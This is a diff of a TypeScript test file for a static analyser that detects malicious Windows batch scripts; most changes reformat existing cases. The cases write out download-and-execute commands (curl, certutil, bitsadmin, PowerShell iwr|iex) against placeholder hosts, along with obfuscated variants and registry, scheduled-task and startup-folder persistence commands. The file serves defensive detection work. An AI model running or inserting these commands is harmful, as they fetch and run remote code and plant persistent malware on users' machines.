@@ -10,7 +10,10 @@ const bat = (code: string) => factsOf('batch', code.replace(/\n/g, '\r\n'));
 describe('tokenizer', () => {
   it('joins caret continuations and splits commands outside quotes', () => {
     const lines = logicalLines('curl ^\r\n  -o x.exe http://a.test/x & start x.exe\r\necho "a & b"\r\n');
-    expect(lines.map((l) => l.text)).toEqual(['curl   -o x.exe http://a.test/x & start x.exe', 'echo "a & b"']);
+    expect(lines.map((l) => l.text)).toEqual([
+      'curl   -o x.exe http://a.test/x & start x.exe',
+      'echo "a & b"',
+    ]);
     expect(splitCommands(lines[0]!.text).map((c) => c.words.map((w) => w.text))).toEqual([
       ['curl', '-o', 'x.exe', 'http://a.test/x'],
       ['start', 'x.exe'],
@@ -42,13 +45,22 @@ describe('downloads and execution', () => {
     ['curl -o then start', 'curl -s -o %TEMP%\\u.exe https://x.test/u.exe\nstart "" %TEMP%\\u.exe\n'],
     ['certutil urlcache', 'certutil -urlcache -split -f http://198.51.100.2/p.exe p.exe\np.exe\n'],
     ['certutil with slashes', 'certutil.exe /urlcache /f http://x.test/a.bat a.bat && call a.bat\n'],
-    ['bitsadmin', 'bitsadmin /transfer j /download /priority high https://x.test/s.exe %TEMP%\\s.exe\n%TEMP%\\s.exe\n'],
+    [
+      'bitsadmin',
+      'bitsadmin /transfer j /download /priority high https://x.test/s.exe %TEMP%\\s.exe\n%TEMP%\\s.exe\n',
+    ],
     ['variables assembled', 'set a=cu& set b=rl\n%a%%b% -o x.cmd https://x.test/x.cmd\ncall x.cmd\n'],
-    ['delayed expansion', 'setlocal EnableDelayedExpansion\nset u=https://x.test/d.exe\ncurl -o d.exe !u!\nstart d.exe\n'],
+    [
+      'delayed expansion',
+      'setlocal EnableDelayedExpansion\nset u=https://x.test/d.exe\ncurl -o d.exe !u!\nstart d.exe\n',
+    ],
   ])('%s', async (_label, code) => {
     const r = await bat(code);
     expect(ofKind(r, 'fetch').length).toBeGreaterThan(0);
-    expect(ofKind(r, 'execute').some((e) => e.code.taints.includes('download')), JSON.stringify(r.behaviours.map((b) => b.kind))).toBe(true);
+    expect(
+      ofKind(r, 'execute').some((e) => e.code.taints.includes('download')),
+      JSON.stringify(r.behaviours.map((b) => b.kind)),
+    ).toBe(true);
   });
 
   it.each([
@@ -70,8 +82,15 @@ describe('downloads and execution', () => {
   });
 
   it('embeds powershell -Command text and cmd /c text', async () => {
-    const r = await bat('powershell -ExecutionPolicy Bypass -Command "iwr https://x.test | iex"\ncmd /c "curl -o a.exe https://x.test/a.exe"\n');
-    expect(r.units.filter((u) => u.origin === 'embedded').map((u) => u.lang).sort()).toEqual(['batch', 'powershell']);
+    const r = await bat(
+      'powershell -ExecutionPolicy Bypass -Command "iwr https://x.test | iex"\ncmd /c "curl -o a.exe https://x.test/a.exe"\n',
+    );
+    expect(
+      r.units
+        .filter((u) => u.origin === 'embedded')
+        .map((u) => u.lang)
+        .sort(),
+    ).toEqual(['batch', 'powershell']);
     expect(ofKind(r, 'fetch')[0]?.endpoint.host).toBe('x.test');
   });
 
@@ -84,18 +103,35 @@ describe('downloads and execution', () => {
 
 describe('autostart and destruction', () => {
   it.each([
-    ['reg Run key', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f\n'],
-    ['reg RunOnce key', 'reg add "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x /d x.exe\n'],
-    ['Winlogon shell', 'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe,u.exe" /f\n'],
-    ['scheduled task', 'schtasks /create /tn Updater /tr "powershell -w hidden -c iwr https://x.test|iex" /sc onlogon\n'],
-    ['startup folder copy', 'copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"\n'],
+    [
+      'reg Run key',
+      'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f\n',
+    ],
+    [
+      'reg RunOnce key',
+      'reg add "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce" /v x /d x.exe\n',
+    ],
+    [
+      'Winlogon shell',
+      'reg add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Shell /d "explorer.exe,u.exe" /f\n',
+    ],
+    [
+      'scheduled task',
+      'schtasks /create /tn Updater /tr "powershell -w hidden -c iwr https://x.test|iex" /sc onlogon\n',
+    ],
+    [
+      'startup folder copy',
+      'copy u.exe "%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.exe"\n',
+    ],
   ])('%s', async (_label, code) => {
     const r = await bat(code);
     expect(ofKind(r, 'write').map((w) => w.cls)).toContain('autostart');
   });
 
   it('analyses the command a scheduled task runs', async () => {
-    const r = await bat('schtasks /create /tn U /tr "certutil -urlcache -f https://x.test/a.exe a.exe" /sc daily\n');
+    const r = await bat(
+      'schtasks /create /tn U /tr "certutil -urlcache -f https://x.test/a.exe a.exe" /sc daily\n',
+    );
     expect(ofKind(r, 'fetch')[0]?.tool).toBe('certutil');
   });
 
@@ -111,7 +147,7 @@ describe('autostart and destruction', () => {
 describe('benign batch files', () => {
   // ../shared/corpus/real/obra__superpowers/hooks/run-hook.cmd (polyglot wrapper: batch half)
   const runHook = [
-    ': << \'CMDBLOCK\'',
+    ": << 'CMDBLOCK'",
     '@echo off',
     'REM Cross-platform polyglot wrapper for hook scripts.',
     'if "%~1"=="" (',
@@ -129,12 +165,19 @@ describe('benign batch files', () => {
 
   it.each([
     ['run-hook.cmd', runHook],
-    ['a build script', '@echo off\nsetlocal\nset OUT=dist\nif not exist %OUT% mkdir %OUT%\nnpm run build > %OUT%\\build.log 2>&1\n'],
+    [
+      'a build script',
+      '@echo off\nsetlocal\nset OUT=dist\nif not exist %OUT% mkdir %OUT%\nnpm run build > %OUT%\\build.log 2>&1\n',
+    ],
     ['an echo of a command', 'echo Run: curl -o x.exe https://x.test/x.exe ^& start x.exe\n'],
     ['a comment', 'rem certutil -urlcache -f http://x.test/p.exe p.exe\n:: powershell -enc AAAA\n'],
   ])('%s', async (_label, code) => {
     const r = await bat(code);
-    const dangerous = r.behaviours.filter((b) => ['fetch', 'execute', 'decode', 'read', 'send', 'destroy'].includes(b.kind) || (b.kind === 'write' && b.cls !== 'other'));
+    const dangerous = r.behaviours.filter(
+      (b) =>
+        ['fetch', 'execute', 'decode', 'read', 'send', 'destroy'].includes(b.kind) ||
+        (b.kind === 'write' && b.cls !== 'other'),
+    );
     expect(dangerous).toEqual([]);
   });
 
@@ -148,7 +191,9 @@ describe('benign batch files', () => {
 
   it('finishes on hostile input', async () => {
     const started = performance.now();
-    await bat(`${'^\n'.repeat(50_000)}${'%'.repeat(100_000)}${'"'.repeat(10_000)}${'set a=%a%%a%\n'.repeat(2_000)}`);
+    await bat(
+      `${'^\n'.repeat(50_000)}${'%'.repeat(100_000)}${'"'.repeat(10_000)}${'set a=%a%%a%\n'.repeat(2_000)}`,
+    );
     expect(performance.now() - started).toBeLessThan(10_000);
   });
 });
